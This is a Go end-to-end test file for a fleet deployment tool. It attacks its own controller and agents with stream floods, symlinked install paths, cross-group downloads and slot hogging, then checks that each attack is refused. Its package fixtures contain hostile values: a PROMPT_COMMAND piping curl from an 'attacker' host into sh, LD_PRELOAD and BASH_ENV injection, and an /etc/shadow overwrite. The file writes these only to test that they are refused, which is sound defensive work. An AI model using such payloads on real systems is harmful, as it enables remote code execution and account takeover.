package e2e_test

// The hostile-peer suite of issue 11 with the built binaries: one
// controller and four agents, each attack made for real against them, and
// after each one the proof that the limit held and nothing changed: the
// controller's own /metrics (heap, bytes served, gRPC calls handled), the
// store as ferryctl lists it (nodes, tokens, artifacts, packages,
// rollouts) before and after, and the files under every node's install
// root. The subtests share the fleet and run one after the other, so each
// one's before and after see only what it did.

import (
	"bufio"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/ferrydeploy/ferry/agent/integration/e2e"
	ferryv1 "github.com/ferrydeploy/ferry/proto/gen/ferry/v1"
	"github.com/ferrydeploy/ferry/shared/rpc"
	"github.com/ferrydeploy/ferry/shared/rpc/rpctest"
)

// hostileFleet is the shared controller and its nodes, one per group so
// that each attack has a node of its own: stage-1 (a node of another
// group than the artifact's), prod-1 (the node whose rollout must go on),
// hog-1 (the node that holds download streams) and link-1 (the node whose
// root has a symbolic link into /etc).
var hostileFleet = map[string]string{"stage-1": "staging", "prod-1": "production", "hog-1": "hog", "link-1": "linked"}

func TestHostilePeers(t *testing.T) {
	t.Parallel()
	h := e2e.New(t)
	// Three download slots in all: one node holding its two leaves one
	// for the rest of the fleet, and holding all three would be visible.
	c := h.StartController(e2e.ControllerOptions{Args: []string{"--max-downloads", "3"}})
	agents := map[string]*e2e.Agent{}
	for _, id := range slices.Sorted(maps.Keys(hostileFleet)) {
		agents[id] = h.Agent(id, hostileFleet[id])
	}
	for id := range hostileFleet {
		h.WaitNode(id, healthyWithin, "healthy and alive in gossip", healthyAndAlive)
	}

	// Two artifacts: the tool for production (and for the link node's
	// package), and an 8 MiB one for the hog node, large enough that a
	// reader that stops holds its stream open.
	work := filepath.Join(h.Dir(), "work")
	if err := os.MkdirAll(work, 0o755); err != nil {
		t.Fatal(err)
	}
	(&rolloutFleet{t: t, h: h, c: c, agents: agents, work: work}).publish("1.0.0", 0)
	toolDigest := "sha256:" + fileDigest(t, filepath.Join(work, "tool-1.0.0.linux-amd64.tar.gz"))
	blob, blobHex := bigTarball(t, work, "1.0.0", 8<<20)
	h.MustCtl("artifact", "push", blob, "--checksum-file", blob+".sha256")
	blobPkg := writeFile(t, work, "blob.yaml", fmt.Sprintf(`name: blob
version: 1.0.0
artifact: %s
steps:
  - archive: {dest: /opt/blob, strip_components: 1}
  - check: {run: "$FERRY_ROOT/opt/blob/bin/blob", expect: "blob 1.0.0"}
`, filepath.Base(blob)))
	h.MustCtl("package", "apply", "-f", blobPkg)
	blobDigest := "sha256:" + blobHex

	// Finding 1: a peer without a certificate opens 32 streams to Enroll,
	// each announcing an 8 MiB message and sending 7 MiB of it. The
	// public server caps the streams, refuses the size before buffering
	// it, the heap stays flat and admins are answered meanwhile.
	t.Run("enrollment flood without a certificate", func(t *testing.T) {
		sh := h.Sub(t)
		unchanged := recordState(t, sh, agents)
		base := scrape(t, c).value("go_memstats_heap_inuse_bytes")

		p, err := rpctest.Dial(c.GRPCAddr, rpc.PinnedTLS(c.CAPin, nil))
		if err != nil {
			t.Fatal(err)
		}
		defer p.Close()
		const streams = 32
		type flooded struct {
			streams []rpctest.Stream
			err     error
		}
		done := make(chan flooded, 1)
		go func() {
			_, err := p.Flood("/ferry.v1.EnrollmentService/Enroll", streams, 8<<20, 7<<20, 2*time.Second)
			done <- flooded{p.WaitEnded(5 * time.Second), err}
		}()

		// ferryctl nodes runs without pause during the attack and for 2 s
		// after its streams ended, while the hostile connection stays
		// open; the heap is read between calls.
		var latencies []time.Duration
		peak := base
		sample := func() {
			began := time.Now()
			if out, stderr, code := sh.Ctl("nodes"); code != 0 || !strings.Contains(out, "stage-1") {
				t.Errorf("ferryctl nodes during the attack: exit %d\n%s%s", code, out, stderr)
			}
			latencies = append(latencies, time.Since(began))
			peak = max(peak, scrape(t, c).value("go_memstats_heap_inuse_bytes"))
		}
		var res flooded
	attack:
		for {
			select {
			case res = <-done:
				break attack
			default:
				sample()
			}
		}
		for ended := time.Now(); time.Since(ended) < 2*time.Second; {
			sample()
		}
		if res.err != nil {
			t.Fatalf("flood: %v", res.err)
		}

		o := rpctest.Summarize(res.streams)
		for _, s := range o.Other {
			t.Errorf("%v; want refused, or answered ResourceExhausted", s)
		}
		growth := peak - base
		slices.Sort(latencies)
		t.Logf("%d streams refused, %d answered ResourceExhausted; the controller let %d bytes through; its heap in use grew %.1f MiB at most (from %.1f MiB)",
			o.Refused, o.Exhausted, o.Sent, growth/(1<<20), base/(1<<20))
		t.Logf("ferryctl nodes during the attack: %d calls, median %v, max %v", len(latencies), latencies[len(latencies)/2], latencies[len(latencies)-1])
		if o.Refused < streams-int(rpc.DefaultLimits.PublicMaxStreams) {
			t.Errorf("%d of %d streams refused: the streams of one connection are not capped at %d", o.Refused, streams, rpc.DefaultLimits.PublicMaxStreams)
		}
		if growth > 32<<20 {
			t.Errorf("the controller's heap in use grew %.1f MiB under one hostile connection, want less than 32 MiB", growth/(1<<20))
		}
		unchanged(t)
	})

	// Findings 9, 10 and 11, the part ferryctl can see by name: each
	// package is refused at apply, naming the file and line of what it
	// refuses and why, and nothing is stored.
	t.Run("refused at apply", func(t *testing.T) {
		cases := []struct {
			name, file, yaml string
			refused          map[string]string // a line of the file -> why it is refused
		}{
			{"sudoers line continuation", "sudo-continued.yaml", `name: sudo-continued
version: 1.0.0
steps:
  - sudoers:
      name: deploy
      rules:
        - "deploy ALL=(root) NOPASSWD: /bin/true \\"
`, map[string]string{`/bin/true \\"`: "ends with a backslash"}},
			{"sudoers unknown Defaults", "sudo-defaults.yaml", `name: sudo-defaults
version: 1.0.0
steps:
  - sudoers:
      name: deploy
      rules:
        - "deploy ALL=(root) NOPASSWD: /bin/true"
        - "Defaults bogus_option_xyz"
`, map[string]string{"bogus_option_xyz": `unknown Defaults setting "bogus_option_xyz"`}},
			{"env names that run code", "env-hostile.yaml", `name: env-hostile
version: 1.0.0
steps:
  - env:
      name: hostile
      vars:
        PROMPT_COMMAND: "curl -s http://attacker/x | sh"
        PS1: "$(id) "
        LD_PRELOAD: /tmp/evil.so
        BASH_ENV: /tmp/evil.sh
`, map[string]string{
				"PROMPT_COMMAND:": "PROMPT_COMMAND is expanded or run by interactive shells",
				"PS1:":            "PS1 is expanded or run by interactive shells",
				"LD_PRELOAD:":     "LD_PRELOAD makes the dynamic loader load code into every program",
				"BASH_ENV:":       "BASH_ENV is one of bash's own variables",
			}},
			{"file step to /etc/shadow", "shadow.yaml", `name: shadow
version: 1.0.0
steps:
  - file: {path: /etc/shadow, content: "root::19000:0:99999:7:::\n", mode: "0640"}
`, map[string]string{"/etc/shadow": "/etc/shadow holds the node's accounts or password hashes; set allow_sensitive: true"}},
		}
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				sh := h.Sub(t)
				unchanged := recordState(t, sh, agents)
				file := writeFile(t, work, tc.file, tc.yaml)
				out, stderr, code := sh.Ctl("package", "apply", "-f", file)
				if code == 0 {
					t.Fatalf("ferryctl package apply -f %s succeeded, want it refused:\n%s", file, out)
				}
				for needle, why := range tc.refused {
					at := fmt.Sprintf("%s:%d:", tc.file, lineOf(t, tc.yaml, needle))
					if !strings.Contains(stderr, at) || !strings.Contains(stderr, why) {
						t.Errorf("ferryctl package apply: want %q refused at %s saying %q; it printed:\n%s", needle, at, why, stderr)
					}
				}
				unchanged(t)
			})
		}
	})

	// Finding 4: the certificate of a staging node, taken from its state
	// dir, asks for the production artifact by its digest, and for a
	// digest no artifact has: both are refused alike before a byte moves.
	t.Run("download of another group's artifact", func(t *testing.T) {
		sh := h.Sub(t)
		unchanged := recordState(t, sh, agents)
		served := scrape(t, c).value("ferry_artifact_bytes_served_total")
		stage := agentClient(t, agents["stage-1"], c)
		wantDownloadRefused(t, stage, "stage-1", toolDigest)
		wantDownloadRefused(t, stage, "stage-1", "sha256:"+strings.Repeat("0", 64))
		if now := scrape(t, c).value("ferry_artifact_bytes_served_total"); now != served {
			t.Errorf("the controller served %.0f artifact bytes during the refused downloads, want none", now-served)
		}
		unchanged(t)
	})

	// Finding 9, the part only the node can see: /opt/linkin -> ../etc in
	// the node's root makes dest /opt/linkin/sudoers.d the node's
	// /etc/sudoers.d. ferryctl cannot tell and stores the package; the
	// agent resolves the link, refuses the step, and writes nothing.
	t.Run("symlinked dest refused on the node", func(t *testing.T) {
		sh := h.Sub(t)
		root := agents["link-1"].Root
		keep := filepath.Join(root, "etc/sudoers.d/keep")
		if err := os.MkdirAll(filepath.Dir(keep), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(keep, []byte("deploy ALL=(root) NOPASSWD: /bin/true\n"), 0o440); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(root, "opt"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("../etc", filepath.Join(root, "opt/linkin")); err != nil {
			t.Fatal(err)
		}
		treeBefore := tree(t, root)
		nodesBefore := nodeList(sh)

		pkg := writeFile(t, work, "linkin.yaml", `name: linkin
version: 1.0.0
artifact: tool-1.0.0.linux-amd64.tar.gz@1.0.0
steps:
  - archive: {dest: /opt/linkin/sudoers.d, strip_components: 1}
`)
		sh.MustCtl("package", "apply", "-f", pkg)
		id := strings.TrimSpace(sh.MustCtl("rollout", "--group", "linked", "--package", "linkin@1.0.0", "--canary", "0", "--healthy-for", "1s", "--on-failure", "abort", "--detach"))
		f := &rolloutFleet{t: t, h: sh}
		r := f.waitRollout(id, "over", func(r rolloutStatus) bool { return r.node("link-1").Outcome == "failed" && r.State != "running" })
		n := r.node("link-1")
		t.Logf("rollout %s: %s; link-1 failed at %q: %s", id, r.State, n.FailedStep, n.Message)
		if !strings.Contains(n.Message, "/opt/linkin/sudoers.d") || !strings.Contains(n.Message, "/etc/sudoers.d") {
			t.Errorf("link-1's job message %q: want it to name dest /opt/linkin/sudoers.d and where it leads, /etc/sudoers.d", n.Message)
		}
		wantSameTree(t, "link-1's root", treeBefore, tree(t, root))
		if got := nodeList(sh); got != nodesBefore {
			t.Errorf("the nodes changed:\nbefore:\n%s\nafter:\n%s", nodesBefore, got)
		}
	})

	// Finding 5: one node's certificate opens 12 downloads of its own
	// job's artifact and stops reading. It gets two slots (the per-node
	// cap) and the rest are refused; the third slot serves prod-1, whose
	// rollout completes before the stall timeout frees the two; then it
	// frees them, and the node can download again.
	t.Run("download slots held by one node", func(t *testing.T) {
		sh := h.Sub(t)
		f := &rolloutFleet{t: t, h: sh, agents: agents}
		nodesBefore := nodeList(sh)
		// hog-1 gets a job for the blob: from then on (and for 10 minutes
		// after it ends) its certificate may download it.
		hogRollout := strings.TrimSpace(sh.MustCtl("rollout", "--group", "hog", "--package", "blob@1.0.0", "--canary", "0", "--healthy-for", "1s", "--detach"))
		f.waitRollout(hogRollout, "succeeded", inState("succeeded"))

		m := scrape(t, c)
		stalled0 := m.value("grpc_server_handled_total", `grpc_method="DownloadArtifact"`, `grpc_code="Unavailable"`)
		served0 := m.value("ferry_artifact_bytes_served_total")
		// 64 KiB windows and no reads after the first chunk: the
		// controller's sends block once they are full.
		hog := agentClient(t, agents["hog-1"], c, grpc.WithInitialWindowSize(64<<10), grpc.WithInitialConnWindowSize(64<<10))
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		const opened = 12
		type first struct {
			stream grpc.ServerStreamingClient[ferryv1.DownloadArtifactResponse]
			err    error
		}
		firsts := make(chan first, opened)
		attack := time.Now()
		for range opened {
			go func() {
				s, err := hog.DownloadArtifact(ctx, &ferryv1.DownloadArtifactRequest{Digest: blobDigest, MaxChunkSize: 64 << 10})
				if err == nil {
					_, err = s.Recv()
				}
				firsts <- first{s, err}
			}()
		}
		var held []grpc.ServerStreamingClient[ferryv1.DownloadArtifactResponse]
		refused := 0
		for range opened {
			select {
			case r := <-firsts:
				switch {
				case r.err == nil:
					held = append(held, r.stream)
				case status.Code(r.err) == codes.ResourceExhausted && strings.Contains(r.err.Error(), "--max-downloads-per-node"):
					refused++
				default:
					t.Errorf("hog-1's download: %v; want a chunk, or ResourceExhausted naming --max-downloads-per-node", r.err)
				}
			case <-time.After(10 * time.Second):
				t.Fatalf("hog-1's downloads: %d streaming and %d refused after 10s, the rest neither", len(held), refused)
			}
		}
		t.Logf("hog-1 opened %d downloads: %d streaming, %d refused", opened, len(held), refused)
		if len(held) != 2 || refused != opened-2 {
			t.Fatalf("hog-1 holds %d downloads, %d were refused; want the per-node cap, 2, and the rest refused", len(held), refused)
		}

		// prod-1's rollout needs the one slot left.
		prod := strings.TrimSpace(sh.MustCtl("rollout", "--group", "production", "--package", "tool@1.0.0", "--canary", "0", "--healthy-for", "1s", "--detach"))
		past := f.waitRollout(prod, "past prod-1's download", func(r rolloutStatus) bool {
			switch r.node("prod-1").Outcome {
			case "installing", "checking", "succeeded", "failed":
				return true
			}
			return false
		})
		downloaded := time.Since(attack)
		if n := scrape(t, c).value("grpc_server_handled_total", `grpc_method="DownloadArtifact"`, `grpc_code="Unavailable"`) - stalled0; n != 0 {
			t.Errorf("prod-1 downloaded %v after the attack began, after %.0f of hog-1's downloads stalled out: it waited for their slots", downloaded, n)
		}
		r := f.waitRollout(prod, "succeeded", inState("succeeded"))
		t.Logf("prod-1 was %s %v after the attack began; its rollout ended %s", past.node("prod-1").Outcome, downloaded.Round(time.Millisecond), r.State)
		f.agents = map[string]*e2e.Agent{"prod-1": agents["prod-1"]}
		f.wantVersions("after the rollout beside the held downloads", map[string]string{"prod-1": "1.0.0"})
		// The production job does not open the artifact to stage-1.
		wantDownloadRefused(t, agentClient(t, agents["stage-1"], c), "stage-1", toolDigest)

		// The stall timeout ends hog-1's two downloads and frees the slots.
		sh.WaitFor("the controller to end hog-1's stalled downloads", 30*time.Second, func() (bool, string) {
			n := scrape(t, c).value("grpc_server_handled_total", `grpc_method="DownloadArtifact"`, `grpc_code="Unavailable"`) - stalled0
			return n >= 2, fmt.Sprintf("%.0f ended Unavailable", n)
		})
		t.Logf("the controller ended hog-1's stalled downloads within %v of the attack", time.Since(attack).Round(time.Second))
		for _, s := range held {
			_, err := drain(s)
			if status.Code(err) != codes.Unavailable || !strings.Contains(err.Error(), "download stalled") {
				t.Errorf("hog-1's held download ended with %v, want Unavailable: download stalled", err)
			}
		}
		full, err := download(hog, blobDigest)
		if err != nil || full != fileSize(t, blob) {
			t.Errorf("hog-1's download after the stall: %d of %d bytes, %v; want its slots back", full, fileSize(t, blob), err)
		}
		t.Logf("the controller served %.1f MiB to hog-1 in all", (scrape(t, c).value("ferry_artifact_bytes_served_total")-served0)/(1<<20))
		if got := nodeList(sh); got != nodesBefore {
			t.Errorf("the nodes changed:\nbefore:\n%s\nafter:\n%s", nodesBefore, got)
		}
	})
}

// wantDownloadRefused checks that client (the certificate of node) is
// refused the artifact digest with PermissionDenied naming both, and
// receives nothing.
func wantDownloadRefused(t *testing.T, client ferryv1.AgentServiceClient, node, digest string) {
	t.Helper()
	got, err := download(client, digest)
	if status.Code(err) != codes.PermissionDenied || !strings.Contains(err.Error(), "node "+node+" has no job that uses artifact "+digest) {
		t.Errorf("%s's download of %s: %v; want PermissionDenied naming the node and the artifact", node, digest, err)
	}
	if got != 0 {
		t.Errorf("%s received %d bytes of %s", node, got, digest)
	}
}

// download downloads digest and returns how many bytes arrived, and the
// error that ended it (nil when the artifact came whole).
func download(client ferryv1.AgentServiceClient, digest string) (int64, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	s, err := client.DownloadArtifact(ctx, &ferryv1.DownloadArtifactRequest{Digest: digest})
	if err != nil {
		return 0, err
	}
	return drain(s)
}

// drain reads a download to its end; it returns the bytes that arrived
// and how it ended (nil at the artifact's end).
func drain(s grpc.ServerStreamingClient[ferryv1.DownloadArtifactResponse]) (int64, error) {
	var n int64
	for {
		msg, err := s.Recv()
		if errors.Is(err, io.EOF) {
			return n, nil
		}
		if err != nil {
			return n, err
		}
		n += int64(len(msg.GetData()))
	}
}

// agentClient connects to c as agent a, with the certificate and key in
// its state dir, as a compromised node would.
func agentClient(t *testing.T, a *e2e.Agent, c *e2e.Controller, opts ...grpc.DialOption) ferryv1.AgentServiceClient {
	t.Helper()
	pair, err := tls.LoadX509KeyPair(filepath.Join(a.StateDir, "node.crt"), filepath.Join(a.StateDir, "node.key"))
	if err != nil {
		t.Fatal(err)
	}
	caPEM, err := os.ReadFile(filepath.Join(a.StateDir, "ca.crt"))
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM(caPEM) {
		t.Fatalf("%s/ca.crt holds no certificate", a.StateDir)
	}
	conf := rpc.ClientTLS(func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return &pair, nil }, pool)
	conn, err := grpc.NewClient(c.GRPCAddr, append(rpc.DialOptions(conf), opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close() })
	return ferryv1.NewAgentServiceClient(conn)
}

// recordState records the store as ferryctl lists it and every node's
// install root, and returns a check that they are the same again.
func recordState(t *testing.T, h *e2e.Harness, agents map[string]*e2e.Agent) func(t *testing.T) {
	t.Helper()
	store := storeState(h)
	roots := map[string]map[string]string{}
	for id, a := range agents {
		roots[id] = tree(t, a.Root)
	}
	return func(t *testing.T) {
		t.Helper()
		if got := storeState(h); got != store {
			t.Errorf("the store changed:\nbefore:\n%s\nafter:\n%s", store, got)
		}
		for id, a := range agents {
			wantSameTree(t, id+"'s root", roots[id], tree(t, a.Root))
		}
	}
}

// storeState is what ferryctl lists of the store: the nodes (who is in
// which group with which labels, not their health, which moves on its
// own), tokens, artifacts, packages and rollouts.
func storeState(h *e2e.Harness) string {
	var b strings.Builder
	b.WriteString(nodeList(h))
	for _, list := range [][]string{{"token", "list"}, {"artifact", "list"}, {"package", "list"}, {"rollout", "list"}} {
		fmt.Fprintf(&b, "ferryctl %s:\n%s\n", strings.Join(list, " "), h.MustCtl(append(list, "-o", "json")...))
	}
	return b.String()
}

// nodeList is each node with its group and labels, one a line.
func nodeList(h *e2e.Harness) string {
	nodes := h.Nodes()
	var b strings.Builder
	for _, id := range slices.Sorted(maps.Keys(nodes)) {
		n := nodes[id]
		var labels []string
		for _, k := range slices.Sorted(maps.Keys(n.Labels)) {
			labels = append(labels, k+"="+n.Labels[k])
		}
		fmt.Fprintf(&b, "node %s group %s labels %s\n", id, n.Group, strings.Join(labels, ","))
	}
	return b.String()
}

// tree describes every file under root: its type, mode, and content
// digest or link target.
func tree(t testing.TB, root string) map[string]string {
	t.Helper()
	files := map[string]string{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		info, err := d.Info()
		if err != nil {
			return err
		}
		switch {
		case d.Type()&fs.ModeSymlink != 0:
			target, err := os.Readlink(p)
			if err != nil {
				return err
			}
			files[rel] = "link to " + target
		case d.IsDir():
			files[rel] = fmt.Sprintf("dir %v", info.Mode())
		default:
			files[rel] = fmt.Sprintf("file %v sha256:%s", info.Mode(), fileDigest(t, p))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func wantSameTree(t *testing.T, what string, before, after map[string]string) {
	t.Helper()
	for _, p := range slices.Sorted(maps.Keys(after)) {
		if before[p] != after[p] {
			t.Errorf("%s: %s is %q, was %q", what, p, after[p], before[p])
		}
	}
	for _, p := range slices.Sorted(maps.Keys(before)) {
		if _, ok := after[p]; !ok {
			t.Errorf("%s: %s (%s) is gone", what, p, before[p])
		}
	}
}

func fileDigest(t testing.TB, p string) string {
	t.Helper()
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(h.Sum(nil))
}

func writeFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// lineOf is the number of the only line of text holding needle.
func lineOf(t *testing.T, text, needle string) int {
	t.Helper()
	var found []int
	for i, line := range strings.Split(text, "\n") {
		if strings.Contains(line, needle) {
			found = append(found, i+1)
		}
	}
	if len(found) != 1 {
		t.Fatalf("%q is on lines %v of the package, want exactly one", needle, found)
	}
	return found[0]
}

// metrics is one scrape of the controller's /metrics.
type metrics string

func scrape(t testing.TB, c *e2e.Controller) metrics {
	t.Helper()
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Get("http://" + c.HTTPAddr + "/metrics")
	if err != nil {
		t.Fatalf("GET /metrics: %v", err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /metrics: HTTP %d, %v", resp.StatusCode, err)
	}
	return metrics(body)
}

// value sums the samples of metric name whose labels include every one
// of labels (`key="value"`); 0 when there are none.
func (m metrics) value(name string, labels ...string) float64 {
	var sum float64
	sc := bufio.NewScanner(strings.NewReader(string(m)))
	for sc.Scan() {
		line := sc.Text()
		rest, ok := strings.CutPrefix(line, name)
		if !ok || (rest != "" && rest[0] != ' ' && rest[0] != '{') {
			continue
		}
		i := strings.LastIndexByte(rest, ' ')
		if i < 0 {
			continue
		}
		set, val := rest[:i], rest[i+1:]
		if !containsAll(set, labels) {
			continue
		}
		if v, err := strconv.ParseFloat(val, 64); err == nil {
			sum += v
		}
	}
	return sum
}

func containsAll(s string, subs []string) bool {
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			return false
		}
	}
	return true
}
